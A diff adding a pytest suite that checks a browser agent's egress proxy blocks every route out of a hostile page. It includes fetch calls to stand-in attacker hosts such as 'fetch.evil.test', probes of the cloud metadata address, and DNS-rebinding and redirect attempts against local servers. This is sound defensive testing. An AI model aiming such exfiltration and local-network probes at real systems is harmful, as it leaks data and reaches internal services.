@@ -1,0 +1,279 @@
+"""A real Chromium, a hostile page, and a sink on another host that must stay dry."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncGenerator
+from contextlib import asynccontextmanager
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote
+
+import pytest
+from playwright.async_api import Browser, BrowserContext, Error, async_playwright
+
+from browser_pilot.egress import EgressProxy, Refusal, SessionGate, browser_arguments
+from browser_pilot.engines.finder import find_browser
+from browser_pilot.engines.proxy_login import log_in, proxy_settings
+from browser_pilot.errors import BrowserUnavailable
+from browser_pilot.policy.hosts import Site
+from browser_pilot.policy.patterns import parse_pattern
+from browser_pilot.policy.rules import Defaults, Rule, Ruleset
+
+from .network import Network
+
+pytestmark = pytest.mark.browser
+
+SCRIPT = Path(__file__).with_name("ways_out.js")
+# These send nothing that a proxy for TCP would see, or nothing at all in a headless browser with our arguments; that
+# they reach nobody is what the sink and the resolver show.
+SILENT = {
+    "dnsprefetch",
+    "fetchlater",
+    "icon",
+    "manifest",
+    "ping",
+    "popupblank",
+    "preconnect",
+    "prerender",
+    "speculateprefetch",
+    "speculateprerender",
+    "stun",
+    "stunaddress",
+    "turntcp",
+    "webtransport",
+}
+# These are told apart by their address, not by a name.
+BY_ADDRESS = {"address", "addressdecimal", "addressmapped", "metadata"}
+
+
+class Sink(asyncio.DatagramProtocol):
+    """Counts whatever arrives at its address, by TCP and by UDP."""
+
+    def __init__(self) -> None:
+        self.arrived: list[str] = []
+
+    def datagram_received(self, data: bytes, addr: Any) -> None:
+        self.arrived.append(f"udp {data[:20]!r}")
+
+    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        head = await reader.read(4096)
+        self.arrived.append(head.decode("latin-1"))
+        writer.write(b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n")
+
+
+class RecordingGate(SessionGate):
+    """Keeps every refusal, and lets the test wait for them."""
+
+    def __init__(self, rules: Ruleset) -> None:
+        super().__init__(lambda: rules)
+        self.all: list[Refusal] = []
+        self.changed = asyncio.Event()
+
+    def refused(self, refusal: Refusal) -> None:
+        super().refused(refusal)
+        self.all.append(refusal)
+        self.changed.set()
+
+    async def wait_for_hosts(self, hosts: set[str]) -> None:
+        while missing := hosts - {refusal.site.host for refusal in self.all}:
+            self.changed.clear()
+            try:
+                await asyncio.wait_for(self.changed.wait(), 20)
+            except TimeoutError:
+                raise AssertionError(f"never tried: {sorted(missing)}") from None
+
+
+async def page_server(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    while True:
+        head = await reader.readuntil(b"\r\n\r\n")
+        target = unquote(head.split(b" ")[1].decode())
+        path, _, query = target.partition("?")
+        status, headers, body = "200 OK", "Content-Type: text/html", b"<!doctype html><p>page</p>"
+        if path.startswith("/redirect/"):
+            status, headers = f"{path[10:]} Moved", f"Location: {query}"
+        elif path.startswith("/header/"):
+            headers += f"\r\n{path[8:]}: {query}"
+        elif path == "/policy":
+            headers += f"\r\nContent-Security-Policy: {query}"
+            body = b"<img src=/x>"
+        elif path == "/worker.js":
+            headers = "Content-Type: text/javascript"
+            body = f"addEventListener('install', e => e.waitUntil(fetch({query!r}).catch(() => 0)))".encode()
+        elif path == "/echo":
+            length = next(int(line[15:]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length"))
+            body = str(len(await reader.readexactly(length))).encode()
+        elif path == "/big":
+            body = b"x" * 5_000_000
+        writer.write(f"HTTP/1.1 {status}\r\n{headers}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
+        await writer.drain()
+
+
+@asynccontextmanager
+async def browser_behind(proxy_port: int) -> AsyncGenerator[Browser]:
+    async with async_playwright() as playwright:
+        arguments = [*browser_arguments(proxy_port), "--no-sandbox", "--disable-gpu"]
+        browser = await playwright.chromium.launch(executable_path=find_browser(None).executable, args=arguments)
+        try:
+            yield browser
+        finally:
+            await browser.close()
+
+
+async def logged_in_context(browser: Browser, port: int) -> BrowserContext:
+    context = await browser.new_context(proxy=proxy_settings(port), ignore_https_errors=True)
+    await log_in(context, "s1", "secret")
+    return context
+
+
+def allowing(*patterns: str) -> Ruleset:
+    return Ruleset(
+        [Rule(pattern=parse_pattern(pattern), read="allow") for pattern in patterns], Defaults(uncovered="deny")
+    )
+
+
+@pytest.mark.timeout(180)
+async def test_no_way_out_leads_to_a_host_that_is_not_allowed(network: Network) -> None:
+    loop = asyncio.get_running_loop()
+    sink = Sink()
+    sink_port = await network.serve(sink.connected, "127.0.0.2")
+    datagrams, _ = await loop.create_datagram_endpoint(lambda: sink, ("127.0.0.2", sink_port))
+    port = await network.serve(page_server)
+    network.names["app.localhost"] = ("127.0.0.1",)
+    gate = RecordingGate(allowing("app.localhost"))
+    gate.open(Site("http", "app.localhost", port))
+    network.proxy.register("s1", "secret", gate)
+    async with browser_behind(network.port) as browser:
+        context = await logged_in_context(browser, network.port)
+        page = await context.new_page()
+        await page.goto(f"http://app.localhost:{port}/")
+        variables = f"var port = {sink_port}, sink = {sink_port};"
+        await page.add_script_tag(content=variables + SCRIPT.read_text(encoding="utf-8"))
+        outcome = await page.evaluate("tryAll()")
+        assert outcome["failed"] == []
+        tried = set(outcome["tried"])
+        assert len(tried) >= 60
+        await gate.wait_for_hosts({f"{way}.evil.test" for way in tried - SILENT - BY_ADDRESS})
+        await gate.wait_for_hosts({"127.0.0.2", "[::ffff:7f00:2]", "169.254.169.254"})
+        await context.close()
+    datagrams.close()
+    assert sink.arrived == []
+    assert set(network.looked_up) == {"app.localhost"}
+
+
+async def test_the_sink_would_have_noticed(network: Network) -> None:
+    sink = Sink()
+    sink_port = await network.serve(sink.connected, "127.0.0.2")
+    port = await network.serve(page_server)
+    network.names |= {"app.localhost": ("127.0.0.1",), "fetch.evil.test": ("127.0.0.2",)}
+    gate = RecordingGate(allowing("app.localhost", "*.evil.test"))
+    gate.open(Site("http", "app.localhost", port))
+    network.proxy.register("s1", "secret", gate)
+    async with browser_behind(network.port) as browser:
+        context = await logged_in_context(browser, network.port)
+        page = await context.new_page()
+        await page.goto(f"http://app.localhost:{port}/")
+        await page.evaluate(f"fetch('http://fetch.evil.test:{sink_port}/here')")
+    assert [line.split(" ")[1] for line in sink.arrived] == ["/here"]
+
+
+async def test_a_public_page_reaches_no_local_server_but_the_agent_does(network: Network) -> None:
+    public_port, local_port = await network.serve(page_server), 0
+    arrived: list[str] = []
+
+    async def local(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        while True:
+            head = await reader.readuntil(b"\r\n\r\n")
+            arrived.append(head.split(b" ")[1].decode())
+            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nhi")
+
+    local_port = await network.serve(local)
+    network.names |= {"public.test": ("93.184.216.34",), "localhost": ("127.0.0.1",), "rebound.test": ("127.0.0.1",)}
+    gate = RecordingGate(Ruleset())
+    network.proxy.register("s1", "secret", gate)
+    base = f"localhost:{local_port}"
+    async with browser_behind(network.port) as browser:
+        context = await logged_in_context(browser, network.port)
+        page = await context.new_page()
+        gate.open(Site("http", "localhost", local_port))
+        await page.goto(f"http://{base}/by-agent")
+        assert await page.inner_text("body") == "hi"
+        with network.reaching("127.0.0.1"):
+            await page.goto(f"http://public.test:{public_port}/")
+            await page.evaluate(
+                """async base => {
+                    const tries = [
+                        fetch(`http://${base}/fetch`, {mode: "no-cors", referrerPolicy: "no-referrer"}),
+                        fetch(`http://${base}/post`, {mode: "no-cors", method: "POST", body: "x"}),
+                        fetch(`/redirect/307?http://${base}/redirected`, {mode: "no-cors"}),
+                        new Promise((_, no) => { new WebSocket(`ws://${base}/ws`).onerror = no }),
+                        new Promise((yes, no) => Object.assign(new Image(), {onload: yes, onerror: no,
+                            referrerPolicy: "no-referrer", src: `http://${base}/img`})),
+                    ];
+                    document.body.insertAdjacentHTML("beforeend", `<iframe src="http://${base}/frame"></iframe>`);
+                    await Promise.allSettled(tries);
+                }""",
+                base,
+            )
+            redirect = f"http://public.test:{public_port}/redirect/302?http://127.0.0.1:{local_port}/top"
+            for address in (f"http://rebound.test:{local_port}/", redirect):
+                response = await page.goto(address)
+                assert response is not None
+                assert response.status == 403
+        await page.goto(f"http://{base}/by-agent-again")
+    assert [path for path in arrived if path != "/favicon.ico"] == ["/by-agent", "/by-agent-again"]
+
+
+async def test_allowed_traffic_works_as_without_a_proxy(network: Network) -> None:
+    port = await network.serve(page_server)
+    network.names["app.localhost"] = ("127.0.0.1",)
+    gate = RecordingGate(allowing("app.localhost"))
+    gate.open(Site("http", "app.localhost", port))
+    network.proxy.register("s1", "secret", gate)
+    async with browser_behind(network.port) as browser:
+        context = await logged_in_context(browser, network.port)
+        page = await context.new_page()
+        await page.goto(f"http://app.localhost:{port}/")
+        found: dict[str, Any] = await page.evaluate(
+            """async () => ({
+                big: (await (await fetch("/big")).text()).length,
+                head: (await fetch("/big", {method: "HEAD"})).status,
+                upload: await (await fetch("/echo", {method: "POST", body: "x".repeat(3_000_000)})).text(),
+                many: (await Promise.all([...Array(60).keys()].map(n => fetch(`/${n}`)))).filter(r => r.ok).length,
+            })"""
+        )
+        assert found == {"big": 5_000_000, "head": 200, "upload": "3000000", "many": 60}
+        requests: list[str] = []
+        page.on("request", lambda request: requests.append(request.url))
+        await page.goto(f"http://app.localhost:{port}/redirect/302?/next")
+        assert page.url.endswith("/next")
+        assert gate.all == []
+
+
+async def test_wrong_credentials_are_an_error_and_not_a_loop(network: Network) -> None:
+    async with browser_behind(network.port) as browser:
+        context = await browser.new_context(proxy=proxy_settings(network.port))
+        with pytest.raises(BrowserUnavailable):
+            await log_in(context, "s1", "wrong")
+
+
+async def test_a_browser_without_a_contexts_proxy_reaches_nothing(network: Network) -> None:
+    port = await network.serve(page_server)
+    async with browser_behind(network.port) as browser:
+        page = await browser.new_page()
+        with pytest.raises(Error):
+            await page.goto(f"http://127.0.0.1:{port}/", timeout=10_000)
+
+
+async def test_a_proxy_that_is_closed_leaves_nothing_behind(network: Network) -> None:
+    proxy = EgressProxy()
+    port = await proxy.start()
+    tasks = len(asyncio.all_tasks())
+    async with browser_behind(port) as browser:
+        context = await browser.new_context(proxy=proxy_settings(port))
+        page = await context.new_page()
+        with pytest.raises(Error):
+            await page.goto("http://example.com/", timeout=5_000)
+        await proxy.close()
+    assert proxy.open_connections == 0
+    assert len(asyncio.all_tasks()) <= tasks
